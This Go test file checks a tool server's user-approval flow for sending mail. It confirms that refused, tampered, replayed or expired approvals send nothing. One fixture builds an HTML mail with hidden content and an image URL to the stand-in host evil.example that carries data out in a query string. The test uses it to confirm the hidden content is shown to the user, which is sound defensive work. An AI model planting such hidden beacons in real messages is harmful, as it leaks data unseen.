package main

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// Capabilities of clients: with forms, with elicitation but no detail, and
// others.
const (
	canShowForms = `{"elicitation":{"form":{}}}`
	canElicit    = `{"elicitation":{}}`
	canOpenLinks = `{"elicitation":{"url":{}}}`
	cannotAsk    = `{}`
)

// serveClient starts the server for a client of 2025-11-25 with capabilities.
func (d *testHome) serveClient(capabilities string) *process {
	d.t.Helper()
	p := launch(d.t, exec.Command("kota", "serve"), d.home)
	p.send(`{"jsonrpc":"2.0","id":"hello","method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":` + capabilities +
		`,"clientInfo":{"name":"test","version":"1"}}}` + "\n" + `{"jsonrpc":"2.0","method":"notifications/initialized"}` + "\n")
	p.receive("hello")
	return p
}

// receive returns the answer to the request of that id, or the question that
// comes before it.
func (p *process) receive(id string) message {
	p.t.Helper()
	for {
		m, more := p.next()
		if !more {
			p.t.Fatalf("%s is not answered; stderr: %s", id, p.stderr.String())
		}
		if m.ID == id || m.Method == "elicitation/create" {
			return m
		}
	}
}

// form is what the user is asked.
type form struct {
	Message string
	Schema  struct {
		Properties map[string]struct{ Type, Title string }
		Required   []string
	} `json:"requestedSchema"`
}

// checkShown checks that a question shows the whole mail and needs only one answer.
func (f form) checkShown(t testing.TB, texts ...string) {
	t.Helper()
	for _, text := range texts {
		if !strings.Contains(f.Message, text) {
			t.Errorf("%q is not shown:\n%s", text, f.Message)
		}
	}
	if !slices.Equal(f.Schema.Required, []string{"yes"}) || f.Schema.Properties["yes"].Type != "boolean" {
		t.Errorf("the user is asked for %+v", f.Schema)
	}
}

func TestClientUpTo20251125AsksUser(t *testing.T) {
	for name, c := range map[string]struct {
		answer string // the fields besides jsonrpc and id
		code   string // of the call; "" for success
		waits  int
	}{
		"yes":                      {`"result":{"action":"accept","content":{"yes":true}}`, "", 0},
		"no":                       {`"result":{"action":"accept","content":{"yes":false}}`, "REFUSED", 0},
		"declined":                 {`"result":{"action":"decline"}`, "REFUSED", 0},
		"declined with a yes":      {`"result":{"action":"decline","content":{"yes":true}}`, "REFUSED", 0},
		"cancelled":                {`"result":{"action":"cancel"}`, "REFUSED", 0},
		"accepted without a word":  {`"result":{"action":"accept"}`, "REFUSED", 0},
		"accepted with a text":     {`"result":{"action":"accept","content":{"yes":"true"}}`, "REFUSED", 0},
		"accepted with other keys": {`"result":{"action":"accept","content":{"confirm":true}}`, "REFUSED", 0},
		"accepted with a list":     {`"result":{"action":"accept","content":[true]}`, "REFUSED", 0},
		"an empty result":          {`"result":{}`, "REFUSED", 0},
		"an error":                 {`"error":{"code":-32603,"message":"no window"}`, "APPROVAL_REQUIRED", 1},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := newAskingHome(t)
			p := d.serveClient(canShowForms)
			p.send(toolCall("lunch", "gmail_send_message", lunch))
			m := p.receive("lunch")
			var asked form
			if err := json.Unmarshal(m.Params, &asked); err != nil || m.Method == "" {
				t.Fatalf("the user is not asked: %s, %v", m.Result, err)
			}
			asked.checkShown(t, "bob@example.com", "Lunch", "At noon?")
			d.checkSent(0, "while the user is asked")
			p.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":%v,%s}`+"\n", m.ID, c.answer))
			got := p.receive("lunch").call(t)
			if got.IsError != (c.code != "") || !strings.Contains(got.text(), c.code) {
				t.Errorf("answered %s", got.text())
			}
			want := 0
			if c.code == "" {
				want = 1
			}
			d.checkSent(want, "after the answer")
			if pending := d.pending(); len(pending) != c.waits {
				t.Errorf("waiting are %+v", pending)
			}
			p.end()
		})
	}
}

func TestClientWithoutFormsIsNotAsked(t *testing.T) {
	t.Parallel()
	d := newAskingHome(t)
	for name, capabilities := range map[string]string{"none": cannotAsk, "links alone": canOpenLinks} {
		p := d.serveClient(capabilities)
		p.send(toolCall("lunch", "gmail_send_message", lunch))
		m := p.receive("lunch")
		if m.Method != "" || !strings.Contains(m.call(t).text(), "APPROVAL_REQUIRED") {
			t.Errorf("%s: answered %s%s", name, m.Params, m.Result)
		}
		p.send(modernCall("modern", "gmail_send_message", lunch, capabilities, nil))
		if m := p.receive("modern"); !strings.Contains(m.call(t).text(), "APPROVAL_REQUIRED") {
			t.Errorf("%s, by 2026-07-28: answered %s", name, m.Result)
		}
		p.end()
	}
	if pending := d.pending(); len(pending) != 1 {
		t.Errorf("waiting are %+v", pending)
	}
	d.checkSent(0, "after all that")
}

// The user cannot consent to what is not shown in full.
func TestCallTooLongToShowWaitsForApproval(t *testing.T) {
	t.Parallel()
	d := newAskingHome(t)
	long := object{"to": []string{"bob@example.com"}, "subject": "Long", "body": strings.Repeat("word ", 2000) + "the end"}
	p := d.serveClient(canShowForms)
	p.send(toolCall("long", "gmail_send_message", long))
	if m := p.receive("long"); m.Method != "" || !strings.Contains(m.call(t).text(), "APPROVAL_REQUIRED") {
		t.Errorf("answered %s%s", m.Params, m.Result)
	}
	p.end()
	if pending := d.pending(); len(pending) != 1 || !strings.Contains(pending[0].Text, "the end") {
		t.Errorf("waiting are %+v", pending)
	}
}

// hiddenHTMLMail is a mail whose HTML contains text that a reader does not see.
var hiddenHTMLMail = object{
	"to": []string{bob}, "subject": "Lunch", "body": "At noon?",
	"html": `<p>At noon?</p><!-- SECRETCOMMENT --><img src="http://evil.example/p.gif?d=SECRETIMG"><a href="http://evil.example/SECRETLINK"></a>`,
}

var hiddenHTMLTexts = []string{"HTML source:", "SECRETCOMMENT", "SECRETIMG", "SECRETLINK"}

func TestQuestionShowsHiddenHTML(t *testing.T) {
	t.Parallel()
	d := newAskingHome(t)
	p := d.serveClient(canShowForms)
	p.send(toolCall("lunch", "gmail_send_message", hiddenHTMLMail))
	m := p.receive("lunch")
	var asked form
	if err := json.Unmarshal(m.Params, &asked); err != nil || m.Method == "" {
		t.Fatalf("the user is not asked: %s, %v", m.Result, err)
	}
	asked.checkShown(t, hiddenHTMLTexts...)
	p.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":%v,"result":{"action":"decline"}}`+"\n", m.ID))
	p.receive("lunch")
	p.end()
	shown := d.must("pending", d.mustPend("gmail_send_message", hiddenHTMLMail))
	for _, text := range hiddenHTMLTexts {
		if !strings.Contains(shown, text) {
			t.Errorf("%q is not in what waits:\n%s", text, shown)
		}
	}
}

// The client disconnects while its user is asked.
func TestUnansweredQuestionSendsNothing(t *testing.T) {
	t.Parallel()
	d := newAskingHome(t)
	p := d.serveClient(canElicit)
	p.send(toolCall("lunch", "gmail_send_message", lunch))
	if m := p.receive("lunch"); m.Method == "" {
		t.Fatalf("the user is not asked: %s", m.Result)
	}
	if got := p.end()["lunch"].call(t); !strings.Contains(got.text(), "APPROVAL_REQUIRED") {
		t.Errorf("answered %s", got.text())
	}
	d.checkSent(0, "after the end")

	p = d.serveClient(canElicit)
	p.send(toolCall("lunch", "gmail_send_message", object{"to": []string{"bob@example.com"}, "subject": "Other", "body": "Hm"}))
	p.receive("lunch")
	p.send(`{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":"lunch"}}` + "\n")
	for m, more := p.next(); more && m.Method != "notifications/cancelled"; m, more = p.next() {
	}
	p.end()
	d.checkSent(0, "after the call was cancelled")
	if pending := d.pending(); len(pending) != 1 {
		t.Errorf("waiting are %+v: what was given up waits", pending)
	}
}

// modernCall returns the line that calls a tool in 2026-07-28, with beside
// added to the parameters.
func modernCall(id, tool string, args any, capabilities string, beside object) string {
	params := object{"name": tool, "arguments": args, "_meta": object{
		"io.modelcontextprotocol/protocolVersion":    "2026-07-28",
		"io.modelcontextprotocol/clientInfo":         object{"name": "test", "version": "1"},
		"io.modelcontextprotocol/clientCapabilities": json.RawMessage(capabilities),
	}}
	for key, value := range beside {
		params[key] = value
	}
	line, err := json.Marshal(object{"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params})
	if err != nil {
		panic(err) // it holds only texts
	}
	return string(line) + "\n"
}

// inputRequired is the result of a call that needs the user's answer.
type inputRequired struct {
	Type     string `json:"resultType"`
	State    string `json:"requestState"`
	Requests map[string]struct {
		Method string
		Params form
	} `json:"inputRequests"`
}

// askUser makes a call in 2026-07-28 that must ask, and returns the state.
func (p *process) askUser(id, tool string, args any) string {
	p.t.Helper()
	p.send(modernCall(id, tool, args, canShowForms, nil))
	var asked inputRequired
	m := p.receive(id)
	if err := json.Unmarshal(m.Result, &asked); err != nil || asked.Type != "input_required" || len(asked.Requests) != 1 || asked.State == "" {
		p.t.Fatalf("%s answers %s, %v", tool, m.Result, err)
	}
	asked.Requests["approve"].Params.checkShown(p.t)
	if method := asked.Requests["approve"].Method; method != "elicitation/create" {
		p.t.Errorf("asked by %s", method)
	}
	return asked.State
}

// answerParams returns what a client sends back with its call.
func answerParams(state, answer string) object {
	return object{"requestState": state, "inputResponses": object{"approve": json.RawMessage(answer)}}
}

const yesAnswer = `{"action":"accept","content":{"yes":true}}`

// answerQuestion makes a call with the answers, and returns its result.
func (p *process) answerQuestion(id, tool string, args any, beside object) string {
	p.t.Helper()
	p.send(modernCall(id, tool, args, canShowForms, beside))
	m := p.receive(id)
	if m.Error != nil {
		return m.Error.Message
	}
	return string(m.Result)
}

func TestClientOf20260728ReturnsAnswerOnce(t *testing.T) {
	t.Parallel()
	d := newAskingHome(t)
	p := d.serveClient(cannotAsk) // its capabilities at the start do not matter
	state := p.askUser("1", "gmail_send_message", lunch)
	d.checkSent(0, "while the user is asked")
	if got := p.answerQuestion("2", "gmail_send_message", lunch, answerParams(state, yesAnswer)); !strings.Contains(got, `\"sent\"`) {
		t.Errorf("answered %s", got)
	}
	d.checkSent(1, "after the answer")
	other := object{"to": []string{"bob@example.com"}, "subject": "Other", "body": "Hm"}
	state = p.askUser("3", "gmail_send_message", other)
	through := object{"bundle": "gmail", "action": "send_message", "args": other}
	if got := p.answerQuestion("4", "kota_entry_point", through, answerParams(state, yesAnswer)); !strings.Contains(got, `\"sent\"`) {
		t.Errorf("by the entry point: answered %s", got)
	}
	d.checkSent(2, "after the second")
	for i := range 2 { // with the answer that was already used
		id := fmt.Sprint("again ", i)
		if got := p.answerQuestion(id, "gmail_send_message", other, answerParams(state, yesAnswer)); strings.Contains(got, `\"sent\"`) && !strings.Contains(got, "repeated") {
			t.Errorf("replayed: answered %s", got)
		}
	}
	d.checkSent(2, "after the replays")
	p.end()
	if pending := d.pending(); len(pending) != 0 {
		t.Errorf("waiting are %+v", pending)
	}
}

// If the key is lost, no state can be sealed, and the call stays pending like
// others.
func TestCallWaitsForApprovalIfStateCannotBeSealed(t *testing.T) {
	t.Parallel()
	d := newAskingHome(t)
	p := d.serveClient(cannotAsk)
	p.askUser("1", "gmail_send_message", lunch) // this makes the key
	keys, err := filepath.Glob(filepath.Join(d.home, "tokens", "sealing*"))
	if err != nil || len(keys) == 0 {
		t.Fatalf("there is no key: %v", err)
	}
	p.end()
	for _, key := range keys {
		if err := os.WriteFile(key, []byte("zz"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	p = d.serveClient(cannotAsk)
	if got := p.answerQuestion("2", "gmail_send_message", lunch, nil); !strings.Contains(got, "APPROVAL_REQUIRED") || !strings.Contains(got, "kota approve a_") {
		t.Errorf("answered %s", got)
	}
	p.end()
	d.checkSent(0, "while it waits")
	if pending := d.pending(); len(pending) != 1 {
		t.Errorf("waiting are %+v", pending)
	}
}

func TestInvalidAnswersOf20260728SendNothing(t *testing.T) {
	t.Parallel()
	d := newAskingHome(t)
	p := d.serveClient(cannotAsk)
	changed := object{"to": []string{"eve@example.com"}, "subject": "Lunch", "body": "At noon?"}
	middle := func(state string) string {
		at := len(state) / 2
		flipped := "A"
		if state[at] == 'A' {
			flipped = "B"
		}
		return state[:at] + flipped + state[at+1:]
	}
	for name, c := range map[string]struct {
		args any
		with func(state string) object
		says string
	}{
		"declined":         {lunch, func(s string) object { return answerParams(s, `{"action":"decline"}`) }, "REFUSED"},
		"cancelled":        {lunch, func(s string) object { return answerParams(s, `{"action":"cancel"}`) }, "REFUSED"},
		"no":               {lunch, func(s string) object { return answerParams(s, `{"action":"accept","content":{"yes":false}}`) }, "REFUSED"},
		"a text for a yes": {lunch, func(s string) object { return answerParams(s, `{"action":"accept","content":{"yes":"yes"}}`) }, "REFUSED"},
		"no answer":        {lunch, func(s string) object { return object{"requestState": s} }, "REFUSED"},
		"another's answer": {lunch, func(s string) object {
			return object{"requestState": s, "inputResponses": object{"other": json.RawMessage(yesAnswer)}}
		}, "REFUSED"},
		"tampered":             {lunch, func(s string) object { return answerParams(middle(s), yesAnswer) }, "REFUSED"},
		"cut":                  {lunch, func(s string) object { return answerParams(s[:len(s)-4], yesAnswer) }, "REFUSED"},
		"longer":               {lunch, func(s string) object { return answerParams(s+"AAAA", yesAnswer) }, "REFUSED"},
		"made up":              {lunch, func(string) object { return answerParams("approved", yesAnswer) }, "REFUSED"},
		"changed arguments":    {changed, func(s string) object { return answerParams(s, yesAnswer) }, "CONFLICT"},
		"an answer to nothing": {lunch, func(string) object { return object{"inputResponses": object{"approve": json.RawMessage(yesAnswer)}} }, "input_required"},
	} {
		p.end()
		p = d.serveClient(cannotAsk) // a user who has refused three times is not asked
		state := p.askUser("ask "+name, "gmail_send_message", lunch)
		if got := p.answerQuestion(name, "gmail_send_message", c.args, c.with(state)); !strings.Contains(got, c.says) || strings.Contains(got, `\"sent\"`) {
			t.Errorf("%s: answered %s", name, got)
		}
		d.checkSent(0, name)
		if name != "declined" {
			continue
		}
		if got := p.answerQuestion("changed mind", "gmail_send_message", lunch, answerParams(state, yesAnswer)); !strings.Contains(got, "REFUSED") {
			t.Errorf("a yes after the no: answered %s", got)
		}
		d.checkSent(0, "after a yes to what was declined")
	}
	p.answerQuestion("a memory", "memory_set", object{"key": "theme", "value": "dark"}, nil)
	state := p.askUser("for a mail", "gmail_send_message", lunch)
	if got := p.answerQuestion("other tool", "memory_delete", object{"key": "theme", "permanent": true}, answerParams(state, yesAnswer)); !strings.Contains(got, "REFUSED") {
		t.Errorf("for another tool: answered %s", got)
	}
	echo := object{"to": []string{"bob@example.com"}, "subject": "Lunch", "body": "At noon?", "requestState": state, "inputResponses": answerParams(state, yesAnswer)["inputResponses"], "yes": true}
	if got := p.answerQuestion("echoed", "gmail_send_message", echo, nil); !strings.Contains(got, "VALIDATION_ERROR") {
		t.Errorf("among the arguments: answered %s", got)
	}
	p.end()

	late := exec.Command("kota", "serve")
	late.Env = []string{"KOTA_NOW=2026-03-14T09:36:53Z"}
	p = launch(t, late, d.home)
	if got := p.answerQuestion("late", "gmail_send_message", lunch, answerParams(state, yesAnswer)); !strings.Contains(got, "ten minutes") {
		t.Errorf("ten minutes later: answered %s", got)
	}
	p.end()
	d.checkSent(0, "after all that")
}
